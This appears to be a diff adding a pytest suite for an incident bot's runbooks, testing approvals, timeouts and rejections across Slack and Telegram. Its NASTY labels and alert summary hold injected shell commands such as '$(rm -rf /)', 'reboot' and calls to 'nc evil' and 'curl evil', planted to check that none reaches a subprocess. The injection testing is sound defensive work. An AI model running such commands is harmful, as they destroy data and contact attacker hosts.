@@ -1,0 +1,302 @@
+"""Runbooks end to end: the card's Run buttons, approvals checked on the server, and real processes run.
+
+The real bot with slack-bolt (and python-telegram-bot) against the fake platform servers on 127.0.0.1, clicks signed
+as Slack signs them; each runbook's steps are small Python scripts this test writes, run as real subprocesses.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import sys
+import time
+from datetime import timedelta
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sqlmodel import select
+
+from storage.models import RunbookRun
+from tests import botkit
+from tests.botkit import Harness, bot_on, fixture, running_bot, untagged
+from tests.fake_slack import FakeSlack
+from tests.fake_telegram import FakeTelegram
+from tests.test_slack_flow import Slack, button_values, slack_config, text_of
+from tests.test_telegram_flow import GROUP, TG_SECRET, Both
+
+PEOPLE = """
+people:
+  - {id: alice, name: Alice, roles: [responder, approver], slack: U01ALICE, telegram: 111111}
+  - {id: bob, name: Bob, roles: [responder, approver], slack: U02BOB}
+  - {id: carol, name: Carol, roles: [approver], telegram: 333333}
+  - {id: vic, name: Vic, slack: U04VIC}
+"""
+# Labels an attacker controls: none of this may ever reach a runbook's argv or a shell
+NASTY = {"instance": "web-01; touch /tmp/pwned-$(id -u) `reboot` | nc evil 1 && $HOME", "job": "$(rm -rf /)"}
+
+RECORD = """
+import json, os, sys
+with open(sys.argv[1], "a") as out:
+    out.write(json.dumps({"argv": sys.argv, "env": dict(os.environ), "stdin": sys.stdin.read()}) + "\\n")
+print("hello from the runbook")
+print("\\x1b[31mred\\x1b[0m")
+"""
+FAIL = "import sys\nprint('disk is full', file=sys.stderr)\nsys.exit(3)\n"
+SLEEP = "import time\nprint('sleeping', flush=True)\ntime.sleep(60)\n"
+
+
+def runbook_config(tmp: Path) -> str:
+    """Routes that list the runbooks, and the runbooks: scripts in `tmp`, run by this Python."""
+    (tmp / "record.py").write_text(RECORD)
+    (tmp / "fail.py").write_text(FAIL)
+    (tmp / "sleep.py").write_text(SLEEP)
+    py, rec = json.dumps(sys.executable), json.dumps(str(tmp / "record.py"))
+    listed = "[greet, restart, broken, slow, hang, elsewhere]"
+    return botkit.CONFIG.replace(
+        "routes:\n  - {match: {team: dba}, channels: [ops-slack, ops-telegram]}\n  - {match: {}, channels: [ops-slack]}",
+        f"routes:\n  - {{match: {{team: dba}}, channels: [ops-slack, ops-telegram], runbooks: {listed}}}\n"
+        f"  - {{match: {{}}, channels: [ops-slack], runbooks: {listed}}}") + f"""
+runbooks:
+  - {{id: greet, title: Greet, risk: low, match: {{alertname: "=~High.*|DiskFull"}},
+     steps: [{{run: [{py}, {rec}, {json.dumps(str(tmp / "greet.jsonl"))}, "fixed arg"], timeout: 10s}}]}}
+  - {{id: restart, title: Restart web, risk: high,
+     steps: [{{run: [{py}, {rec}, {json.dumps(str(tmp / "restart.jsonl"))}], timeout: 10s}}]}}
+  - {{id: broken, title: Broken, steps: [{{run: [{py}, {json.dumps(str(tmp / "fail.py"))}], timeout: 10s}},
+                                         {{run: [{py}, {rec}, {json.dumps(str(tmp / "never.jsonl"))}]}}]}}
+  - {{id: slow, title: Slow, steps: [{{run: [{py}, {json.dumps(str(tmp / "sleep.py"))}], timeout: 1s}}]}}
+  - {{id: hang, title: Hang, risk: medium, steps: [{{run: [{py}, {json.dumps(str(tmp / "sleep.py"))}], timeout: 5m}}]}}
+  - {{id: elsewhere, title: Elsewhere, match: {{alertname: NotThisOne}}, steps: [{{run: [{py}, {rec}, x]}}]}}
+"""
+
+
+def nasty_alert(name: str = "alertmanager/03-highcpu-firing.json") -> dict[str, Any]:
+    body = json.loads(fixture(name))
+    for alert in body["alerts"]:
+        alert["labels"].update(NASTY)
+        alert["annotations"]["summary"] = "`rm -rf /` $(curl evil) && reboot"
+    return body
+
+
+@pytest.fixture(params=["sqlite", "postgres"])
+async def slack(request: pytest.FixtureRequest, tmp_path: Path, pg_schema: str) -> AsyncIterator[Slack]:
+    async with FakeSlack() as fake, bot_on(request.param, tmp_path, pg_schema, slack_config(fake), people=PEOPLE,
+                                           base=runbook_config(tmp_path)) as h:
+        yield Slack(h, fake)
+
+
+async def posted(s: Slack) -> str:
+    status, _, _ = await s.h.post("am", nasty_alert())
+    assert status == 200
+    await s.fake.wait_for(lambda: s.posts(), timeout=5)
+    for _ in range(100):
+        try:
+            return await s.h.message_of(1)
+        except Exception:
+            await asyncio.sleep(0.02)
+    return await s.h.message_of(1)
+
+
+async def thread_says(s: Slack, ts: str, words: str) -> str:
+    """The incident's thread line that says `words`, once the runs in progress ended. A line the fake turned away
+    (429) waits for its Retry-After on the bot's clock: the clock moves a second at a time meanwhile."""
+    await s.h.bot.runbooks.idle()
+    for _ in range(50):
+        found = [text_of(p) for p in s.posts(thread=ts) if words in text_of(p)]
+        if found:
+            return found[0]
+        s.h.clock.advance(timedelta(seconds=1))
+        s.h.bot.outbox.nudge()
+        await asyncio.sleep(0.2)
+    raise AssertionError(f"the thread never said {words!r}: {[text_of(p) for p in s.posts(thread=ts)]}")
+
+
+async def runs(h: Harness) -> list[RunbookRun]:
+    async with h.bot.db.sessions() as session:
+        return list((await session.execute(select(RunbookRun).order_by(RunbookRun.id))).scalars().all())
+
+
+def recorded(path: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
+
+
+def dm_buttons(s: Slack, user: str) -> list[str]:
+    """The button values of the direct messages the bot sent `user` on Slack."""
+    opened = {c.params["users"]: c for c in s.fake.called("conversations.open")}
+    assert user in opened, f"no direct message to {user}"
+    return [v for c in s.fake.called("chat.postMessage") if str(c.params.get("channel", "")).startswith("D")
+            for v in button_values(c.params, tagged=True)]
+
+
+async def test_low_risk_runs_at_once_with_its_argv_as_written_and_says_how_it_ended(
+        slack: Slack, tmp_path: Path) -> None:
+    s = slack
+    ts = await posted(s)
+    [post] = s.posts()
+    values = button_values(post)
+    assert values == ["ack:1", "esc:1", "res:1", "rb:1:greet", "rb:1:restart", "rb:1:broken", "rb:1:slow",
+                      "rb:1:hang"]  # Elsewhere's match does not hold for this alert's labels
+    blocks = json.dumps(post["blocks"])
+    assert "Run: Greet" in blocks and "Run Greet on #1?" in blocks and "approver approves it" in blocks
+
+    _, elapsed, key = await s.click("rb:1:greet", ts)
+    assert elapsed < 1.0
+    assert (await s.answer(key))["text"] == "Running Greet on #1 now; the thread gets its result."
+    line = await thread_says(s, ts, "Runbook Greet")
+    assert "Runbook Greet (asked by Alice) finished: step 1 `" in line and "exit 0 in " in line
+    assert "hello from the runbook" in line and "\\\\x1b[31mred" in line  # its output, control characters escaped
+
+    [call] = recorded(tmp_path / "greet.jsonl")
+    # exactly app.yaml's argv: nothing of the alert (its labels, its summary) reached the process
+    assert call["argv"] == [str(tmp_path / "record.py"), str(tmp_path / "greet.jsonl"), "fixed arg"]
+    assert set(call["env"]) - {"LC_CTYPE"} == {"PATH", "LANG"} and call["stdin"] == ""
+    assert not any(v in json.dumps(call) for v in NASTY.values())
+    [run] = await runs(s.h)
+    assert (run.status, run.requested_by, run.approved_by) == ("succeeded", "alice", None)
+    assert run.results[0]["exit"] == 0 and "hello from the runbook" in run.output and "\\x1b[31mred" in run.output
+    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == [
+        "runbook.requested", "runbook.started", "runbook.finished"]
+
+
+async def test_a_failing_step_stops_the_run_and_a_step_past_its_timeout_is_killed(slack: Slack, tmp_path: Path) -> None:
+    s = slack
+    ts = await posted(s)
+    _, _, key = await s.click("rb:1:broken", ts)
+    await s.answer(key)
+    line = await thread_says(s, ts, "Runbook Broken")
+    assert "Runbook Broken (asked by Alice) failed: step 1 `" in line and "exit 3 in" in line
+    assert "disk is full" in line and "step 2" not in line
+    assert not (tmp_path / "never.jsonl").exists()  # the step after the failing one never ran
+
+    started = time.monotonic()
+    _, _, key = await s.click("rb:1:slow", ts)
+    await s.answer(key)
+    line = await thread_says(s, ts, "Runbook Slow")
+    assert time.monotonic() - started < 10
+    assert "Runbook Slow (asked by Alice) failed: step 1 `" in line and "timed out after 1." in line
+    assert "was killed" in line and "sleeping" in line
+    broken, slow = await runs(s.h)
+    assert (broken.status, broken.results[0]["exit"], len(broken.results)) == ("failed", 3, 1)
+    assert slow.status == "failed" and slow.results[0]["timed_out"] is True
+
+
+async def test_high_risk_waits_for_another_approver_and_a_double_approve_runs_once(slack: Slack, tmp_path: Path) -> None:
+    s = slack
+    ts = await posted(s)
+    _, _, key = await s.click("rb:1:restart", ts, user="U04VIC")  # a viewer: no responder role
+    assert "needs the `responder` role" in (await s.answer(key))["text"]
+    assert await runs(s.h) == []
+
+    _, _, key = await s.click("rb:1:restart", ts)
+    assert (await s.answer(key))["text"] == ("Asked to run Restart web on #1: it is high risk, so it runs once an "
+                                              "approver (Bob, Carol) approves it.")
+    asked = await thread_says(s, ts, "asks to run")
+    assert "Alice asks to run runbook Restart web (high risk): `" in asked and "record.py" in asked
+    await s.fake.wait_for(lambda: s.fake.called("conversations.open"), timeout=5)
+    await s.fake.wait_for(lambda: dm_buttons(s, "U02BOB"), timeout=5)
+    approve = next(v for v in dm_buttons(s, "U02BOB") if v.startswith("apv:"))
+    assert untagged(approve) == "apv:1:1" and [untagged(v) for v in dm_buttons(s, "U02BOB")] == ["apv:1:1", "rej:1:1"]
+    assert (await runs(s.h))[0].status == "requested" and recorded(tmp_path / "restart.jsonl") == []
+
+    _, _, key = await s.click(approve, ts, user="U01ALICE")  # her own request
+    assert (await s.answer(key))["text"] == ("You asked to run Restart web on #1, so someone else must approve it "
+                                              "(four eyes): another person with the `approver` role.")
+    _, _, key = await s.click(approve, ts, user="U04VIC")
+    assert "needs the `approver` role" in (await s.answer(key))["text"]
+    assert (await runs(s.h))[0].status == "requested"
+
+    _, _, first = await s.click(approve, ts, user="U02BOB")
+    _, _, second = await s.click(approve, ts, user="U02BOB")
+    assert (await s.answer(first))["text"] == "Approved: Restart web runs on #1 now."
+    assert "already" in (await s.answer(second))["text"] and "nothing more was done" in (await s.answer(second))["text"]
+    line = await thread_says(s, ts, "Runbook Restart web")
+    assert "Runbook Restart web (approved by Bob) finished: step 1" in line
+    assert len(recorded(tmp_path / "restart.jsonl")) == 1  # approved twice, run once
+    [run] = await runs(s.h)
+    assert (run.status, run.requested_by, run.approved_by) == ("succeeded", "alice", "bob")
+    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == [
+        "runbook.requested", "runbook.approved", "runbook.started", "runbook.finished"]
+
+
+async def test_a_rejected_run_never_runs_and_says_who_rejected_it(slack: Slack, tmp_path: Path) -> None:
+    s = slack
+    ts = await posted(s)
+    answer = await s.answer(await s.command("/incident", "runbook 1"))
+    assert "`greet`: Greet (low risk)" in answer["text"] and "`elsewhere`" not in answer["text"]
+    await s.answer(await s.command("/incident", "runbook 1 restart"))
+    await s.fake.wait_for(lambda: s.fake.called("conversations.open") and dm_buttons(s, "U02BOB"), timeout=5)
+    reject = next(v for v in dm_buttons(s, "U02BOB") if v.startswith("rej:"))
+    _, _, key = await s.click(reject, ts, user="U02BOB")
+    assert (await s.answer(key))["text"] == "Rejected: Restart web does not run on #1."
+    await thread_says(s, ts, "Bob rejected running runbook Restart web (asked by Alice)")
+    approve = reject.replace("rej:", "apv:")
+    _, _, key = await s.click(approve, ts, user="U02BOB")
+    assert (await s.answer(key))["text"] == "Restart web on #1 was already rejected by you: nothing more was done."
+    [run] = await runs(s.h)
+    assert (run.status, run.rejected_by) == ("rejected", "bob") and recorded(tmp_path / "restart.jsonl") == []
+    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == ["runbook.requested", "runbook.rejected"]
+
+
+async def test_a_run_the_bot_stopped_in_is_marked_interrupted_at_start_and_not_run_again(tmp_path: Path) -> None:
+    url = f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}"
+    async with FakeSlack() as fake:
+        s: Slack | None = None
+        async with running_bot(url, slack_config(fake), people=PEOPLE, base=runbook_config(tmp_path)) as h:
+            s = Slack(h, fake)
+            ts = await posted(s)
+            _, _, key = await s.click("rb:1:hang", ts, user="U02BOB")
+            _, _, key = await s.click("apv:1:1", ts)
+            assert "Approved" in (await s.answer(key))["text"]
+            for _ in range(100):
+                if (await runs(h))[0].status == "running":
+                    break
+                await asyncio.sleep(0.05)
+        async with running_bot(url, slack_config(fake), people=PEOPLE, base=runbook_config(tmp_path)) as h:
+            s = Slack(h, fake)
+            [run] = await runs(h)
+            assert run.status == "interrupted"
+            line = await thread_says(s, ts, "was interrupted")
+            assert "Runbook Hang was interrupted: the bot stopped while it ran. It was not run again" in line
+            assert "runbook.finished" in await h.actions(1)
+            await asyncio.sleep(0.3)
+            assert (await runs(h))[0].status == "interrupted" and not h.bot.runbooks._tasks
+
+
+@pytest.fixture
+async def both(tmp_path: Path) -> AsyncIterator[Both]:
+    async with FakeSlack() as slack, FakeTelegram() as tg:
+        extra = slack_config(slack) + (f"  telegram: {{bot_token: '{tg.token}', webhook_secret: {TG_SECRET}, "
+                                       f"api_url: '{tg.api_url}'}}\n")
+        async with running_bot(f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}", extra, people=PEOPLE,
+                               base=runbook_config(tmp_path)) as h:
+            yield Both(h, Slack(h, slack), tg)
+
+
+async def test_an_approver_approves_in_telegram_and_the_group_thread_gets_the_result(both: Both, tmp_path: Path) -> None:
+    b = both
+    status, _, _ = await b.h.post("am", nasty_alert("alertmanager/01-diskfull-firing-2-alerts.json"))  # both chats
+    assert status == 200
+    await b.tg.wait_for(lambda: b.tg.called("sendMessage"), timeout=5)
+    [card] = b.tg.called("sendMessage")
+    assert "?rb:1:restart" in [untagged(k["callback_data"]) for row in card.params["reply_markup"]["inline_keyboard"]
+                               for k in row]
+    answer = await b.slack.answer(await b.slack.command("/incident", "runbook 1 restart"))
+    assert "approver (Bob, Carol)" in answer["text"]
+    await b.tg.wait_for(lambda: any(c.params["chat_id"] == 333333 for c in b.tg.called("sendMessage")), timeout=5)
+    dm = next(mid for (chat, mid) in b.tg.messages if chat == 333333)
+    assert "Alice asks to run runbook Restart web (high risk)" in b.tg.messages[(333333, dm)]["text"]
+    assert b.tg_keyboard(dm, 333333) == ["apv:1:1", "rej:1:1"]
+    await b.tap("apv:1:1", dm, user=333333, chat=333333)
+    await b.h.bot.runbooks.idle()
+    [run] = await runs(b.h)
+    assert (run.status, run.approved_by) == ("succeeded", "carol")
+    assert len(recorded(tmp_path / "restart.jsonl")) == 1
+    group = int(await b.h.message_of(1, "ops-telegram"))
+    b.h.bot.outbox.nudge()
+
+    def said() -> bool:
+        return any("Runbook Restart web (approved by Carol) finished" in str(c.params.get("text"))
+                   for c in b.tg.called("sendMessage") if c.params["chat_id"] == GROUP
+                   and (c.params.get("reply_parameters") or {}).get("message_id") == group)
+    await b.tg.wait_for(said, timeout=10)
